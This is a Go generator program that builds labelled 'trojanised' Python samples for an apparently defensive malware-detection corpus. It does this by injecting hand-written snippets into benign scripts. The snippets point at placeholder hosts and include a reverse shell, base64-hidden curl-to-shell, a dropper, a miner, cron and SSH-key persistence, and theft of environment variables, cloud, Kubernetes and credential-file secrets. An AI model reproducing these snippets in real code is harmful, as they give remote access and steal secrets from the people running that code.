// Command gen writes the generated part of the corpus: "trojanised"
// variants of the hand-written benign scripts, each with one hand-written,
// defanged malicious snippet inserted before a top-level def, class or
// main guard — the shape of a tampered module, where a few malicious lines
// hide in ordinary code. Each variant is labelled with the snippet's lines
// and techniques and shares its cross-validation group with its benign
// host, so a host and its twin never sit on both sides of a fold.
//
// It is deterministic (sorted hosts, hashed pairing, no randomness) and
// rewrites malicious/g*.py from scratch. Run it from the repository root:
//
//	go run ./model/corpus/gen
//
// It never runs the scripts. It must not import pytriage/model,
// pytriage/finding or pytriage/ui.
package main

import (
	"flag"
	"fmt"
	"hash/fnv"
	"os"
	"path/filepath"
	"sort"
	"strconv"
	"strings"
)

// snippet is a block of top-level Python; lines ending in the marker are
// the labelled malicious lines (the marker is removed).
type snippet struct {
	name       string
	techniques string
	code       string
}

const marker = "  #!M"

var snippets = []snippet{
	{"revshell", "T1059.004,T1095", `import socket as _sk, os as _os, pty as _pty
def _maint():
    c = _sk.create_connection(("203.0.113.45", 443))  #!M
    for fd in (0, 1, 2):
        _os.dup2(c.fileno(), fd)  #!M
    _pty.spawn("/bin/sh")  #!M
if _os.fork() == 0:
    _maint()  #!M
`},
	{"metadata", "T1552.005,T1528,T1041", `import urllib.request as _u
try:
    _t = _u.urlopen(_u.Request("http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token", headers={"Metadata-Flavor": "Google"}), timeout=2).read()  #!M
    _u.urlopen("http://198.51.100.14/c", data=_t, timeout=3)  #!M
except Exception:
    pass
`},
	{"b64exec", "T1027,T1059.004,T1059.006,T1105,T1140", `import base64 as _b
exec(_b.b64decode("aW1wb3J0IG9zO29zLnN5c3RlbSgiY3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjk5L3UgfCBzaCIp"))  #!M
`},
	{"dropper", "T1105,T1222.002,T1564.001", `import os as _o, urllib.request as _r, subprocess as _s
_p = "/tmp/.cache-" + str(_o.getuid())  #!M
_r.urlretrieve("http://192.0.2.77/a", _p)  #!M
_o.chmod(_p, 0o755)  #!M
_s.Popen([_p], stdout=_s.DEVNULL, stderr=_s.DEVNULL, start_new_session=True)  #!M
`},
	{"envexfil", "T1552.001,T1041", `import os as _o, json as _j, urllib.request as _r
_r.urlopen("https://hooks.bad-host.example/e", data=_j.dumps(dict(_o.environ)).encode(), timeout=3)  #!M
`},
	{"miner", "T1036.005,T1496", `import subprocess as _s
_s.Popen(["/var/tmp/.k/kthreadd", "-o", "stratum+tcp://pool.bad-host.example:3333", "-u", "4FAKEpytriageCORPUSwallet", "--donate-level", "1", "-B"])  #!M
`},
	{"cron", "T1053.003,T1059.004,T1105", `import os as _o
_o.system("(crontab -l 2>/dev/null; echo '*/15 * * * * curl -fsSL http://203.0.113.12/r | sh') | crontab -")  #!M
`},
	{"sshkey", "T1098.004", `import os as _o
with open(_o.path.expanduser("~/.ssh/authorized_keys"), "a") as _f:  #!M
    _f.write("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFAKEpytriageCORPUSkey0000 ops\n")  #!M
`},
	{"fetchexec", "T1059.006,T1105,T1620", `import urllib.request as _r
exec(_r.urlopen("http://198.51.100.31:8080/p.py", timeout=5).read())  #!M
`},
	{"k8stoken", "T1041,T1528,T1552.007", `import urllib.request as _r
_tok = open("/var/run/secrets/kubernetes.io/serviceaccount/token").read()  #!M
_r.urlopen("http://203.0.113.150/k", data=_tok.encode(), timeout=3)  #!M
`},
	{"credfiles", "T1552.001,T1552.004,T1041", `import os as _o, requests as _rq
_loot = {p: open(_o.path.expanduser(p)).read() for p in ("~/.aws/credentials", "~/.ssh/id_rsa") if _o.path.exists(_o.path.expanduser(p))}  #!M
_rq.post("http://192.0.2.240/u", json=_loot, timeout=5)  #!M
`},
	{"dynimport", "T1027,T1059.004,T1105", `_m = __import__("".join(["o", "s"]))  #!M
getattr(_m, "sys" + "tem")("wget -qO- http://198.51.100.90/i | sh")  #!M
`},
}

func main() {
	dir := flag.String("dir", "model/corpus", "corpus directory")
	n := flag.Int("n", 48, "variants to write")
	flag.Parse()
	if err := run(*dir, *n); err != nil {
		fmt.Fprintln(os.Stderr, "gen:", err)
		os.Exit(1)
	}
}

func run(dir string, n int) error {
	old, _ := filepath.Glob(filepath.Join(dir, "malicious", "g*.py"))
	for _, p := range old {
		if err := os.Remove(p); err != nil {
			return err
		}
	}
	hosts, err := eligibleHosts(dir)
	if err != nil {
		return err
	}
	if len(hosts) == 0 {
		return fmt.Errorf("no benign host has a top-level def, class or main guard")
	}
	used := map[string]int{}
	for i := 0; i < n; i++ {
		h := pickHost(hosts, i, used)
		s := snippets[i%len(snippets)]
		text, lines := inject(h, s)
		base := strings.TrimSuffix(filepath.Base(h.path), ".py")
		name := fmt.Sprintf("g%03d_%s_in_%s.py", i+1, s.name, strings.SplitN(base, "_", 2)[0])
		header := fmt.Sprintf("# label: malicious family=trojan techniques=%s lines=%s group=benign/%s.py\n",
			s.techniques, spec(lines), base)
		if err := os.WriteFile(filepath.Join(dir, "malicious", name), []byte(header+text), 0o644); err != nil {
			return err
		}
	}
	fmt.Printf("wrote %d variants from %d hosts and %d snippets\n", n, len(hosts), len(snippets))
	return nil
}

// pickHost chooses variant i's host by rendezvous hashing: the host with
// the smallest FNV hash of "name:i" among the least-used ones, so adding
// a benign file changes few existing variants.
func pickHost(hosts []host, i int, used map[string]int) host {
	least := -1
	for _, h := range hosts {
		if least < 0 || used[h.path] < least {
			least = used[h.path]
		}
	}
	var best host
	var bestHash uint64
	for _, h := range hosts {
		if used[h.path] != least {
			continue
		}
		f := fnv.New64a()
		fmt.Fprintf(f, "%s:%d", filepath.Base(h.path), i)
		if v := f.Sum64(); best.path == "" || v < bestHash {
			best, bestHash = h, v
		}
	}
	used[best.path]++
	return best
}

type host struct {
	path  string
	lines []string // without the label header
	at    int      // index in lines to insert before
}

// eligibleHosts are the benign files (label line dropped) with a
// top-level def/class/main guard after the first ten lines, in name order.
func eligibleHosts(dir string) ([]host, error) {
	paths, err := filepath.Glob(filepath.Join(dir, "benign", "*.py"))
	if err != nil {
		return nil, err
	}
	sort.Strings(paths)
	var out []host
	for _, p := range paths {
		b, err := os.ReadFile(p)
		if err != nil {
			return nil, err
		}
		text := string(b)
		if strings.ContainsRune(text, '\r') {
			continue // keep CPython's line count equal to the LF count
		}
		lines := strings.Split(strings.TrimSuffix(text, "\n"), "\n")[1:]
		at := -1
		for i := 10; i < len(lines); i++ {
			l := lines[i]
			top := strings.HasPrefix(l, "def ") || strings.HasPrefix(l, "class ") || strings.HasPrefix(l, "if __name__")
			if top && i > 0 && strings.TrimSpace(lines[i-1]) == "" {
				at = i
				break
			}
		}
		if at > 0 && !insideTripleQuote(lines[:at]) {
			out = append(out, host{path: p, lines: lines, at: at})
		}
	}
	return out, nil
}

// insideTripleQuote: an odd number of triple quotes before the insertion
// point means it would land inside a docstring.
func insideTripleQuote(lines []string) bool {
	n := 0
	for _, l := range lines {
		n += strings.Count(l, `"""`) + strings.Count(l, `'''`)
	}
	return n%2 == 1
}

// inject returns the host text with the snippet inserted and the labelled
// line numbers, counting the label header as line 1.
func inject(h host, s snippet) (string, []int) {
	var out []string
	var marked []int
	out = append(out, h.lines[:h.at]...)
	for _, l := range strings.Split(strings.TrimSuffix(s.code, "\n"), "\n") {
		if strings.HasSuffix(l, marker) {
			l = strings.TrimSuffix(l, marker)
			marked = append(marked, len(out)+2) // +1 for 1-based, +1 for the header
		}
		out = append(out, l)
	}
	out = append(out, "")
	out = append(out, h.lines[h.at:]...)
	return strings.Join(out, "\n") + "\n", marked
}

func spec(ls []int) string {
	var parts []string
	for i := 0; i < len(ls); {
		j := i
		for j+1 < len(ls) && ls[j+1] == ls[j]+1 {
			j++
		}
		if j > i {
			parts = append(parts, strconv.Itoa(ls[i])+"-"+strconv.Itoa(ls[j]))
		} else {
			parts = append(parts, strconv.Itoa(ls[i]))
		}
		i = j + 1
	}
	return strings.Join(parts, ",")
}
